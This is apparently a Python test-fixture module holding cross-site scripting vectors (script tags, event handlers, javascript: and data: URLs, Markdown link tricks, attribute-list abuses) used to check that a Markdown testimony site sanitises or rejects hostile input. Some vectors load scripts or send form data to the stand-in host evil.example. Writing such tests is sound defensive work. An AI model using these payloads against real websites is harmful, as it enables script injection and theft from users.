"""Script-injection vectors for the hostile-input tests (``tests/test_hostile.py``).

``TEXT`` vectors are single lines that must be accepted as plain text
anywhere a person can type or write: testimony bodies, front matter values,
theme labels and descriptions, search queries, quote checks and anchors.
``MARKDOWN`` vectors use Markdown syntax (links, images, references,
autolinks, attribute lists on inline elements that are allowed) and go
into testimony bodies. ``REJECTED`` bodies abuse ``{: ... }`` attribute
lists: the parser must refuse each with the file and line of the attribute
list. Vectors that run code call ``alert`` or set ``window.__xss``; vectors
that would fetch something point at ``evil.example`` (never resolved: the
browser tests abort every request that is not to 127.0.0.1).
"""

from __future__ import annotations

TEXT: list[str] = [
    # script tags
    "<script>window.__xss=1;alert(1)</script>",
    "<script src=http://evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/p.png" onload="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    "<x onmouseover=alert(1)>hover</x>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    # frames, objects, navigation, resources
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>body{background:url("http://evil.example/bg")}</style>',
    '<form action="http://evil.example/"><button>go</button></form>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # broken markup, comments, mutation tricks
    '<img src="x',
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # entity- and percent-encoded
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # template and other injections
    "{{7*7}} {{ config }} {% raw %}",
    "${alert(1)} #{alert(1)}",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
]

MARKDOWN: list[str] = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](java&#09;script:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](<javascript:alert(1)>)",
    '[click](https://example.org/" onmouseover="alert(1))',
    '[click](https://example.org/ "title\\" onmouseover=\\"alert(1)")',
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](http://evil.example/track.png)",
    "![<img src=x onerror=alert(1)>](x)",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<http://evil.example/>",
    "*<script>alert(1)</script>*",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "[inline <b onclick=alert(1)>x</b> secret]{.redact}",
]

#: (body, message the error must carry, line(s) of the error counted from the body's first line)
REJECTED: list[tuple[str, str, int | tuple[int, ...]]] = [
    ('Text.\n{: onclick="alert(1)" }\n', "onclick", 2),
    ("Text.\n{: onmouseover=alert(1) }\n", "onmouseover", 2),
    ('Text.\n{: style="background:url(javascript:alert(1))" }\n', "style", 2),
    ('Text.\n{: #fine onfocus="alert(1)" tabindex="1" }\n', "onfocus", 2),
    ('Text.\n{: .redact onclick="alert(1)" }\n', "onclick", 2),
    ('Text.\n{: href="javascript:alert(1)" }\n', "href", 2),
    ('Text.\n{: srcdoc="<script>alert(1)</script>" }\n', "srcdoc", 2),
    ('First.\n\n[x](https://example.org/){: onclick="alert(1)" }\n', "onclick", 3),
    ('First.\n\n*em*{: onclick="alert(1)" }\n', "onclick", 3),
    ('# Heading {: onclick="alert(1)" }\n\nText.\n', "onclick", 1),
    # A block quote's error names the quote's first line (the "> {: }" line is not found).
    ('> Quoted.\n> {: onclick="alert(1)" }\n', "onclick", (1, 2)),
    ('- Item.\n{: onclick="alert(1)" }\n', "onclick", 2),
    ('Text.\n{: class="x" onload="alert(1)" }\n', "onload", 2),
]
